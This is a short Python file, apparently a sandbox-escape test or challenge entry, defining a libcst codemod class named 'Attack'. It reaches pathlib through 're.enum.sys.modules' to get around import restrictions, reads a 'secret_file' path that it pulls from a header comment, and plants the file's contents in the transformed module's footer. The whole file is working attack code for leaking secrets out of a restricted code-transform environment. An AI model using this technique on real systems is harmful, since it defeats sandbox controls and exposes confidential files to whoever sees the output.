"""Take ``sys`` from a harmless module that imports it, and every other module from there."""

import ast
import re

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    modules = re.enum.sys.modules
    return modules["pathlib"].Path(path).read_text().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a module."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
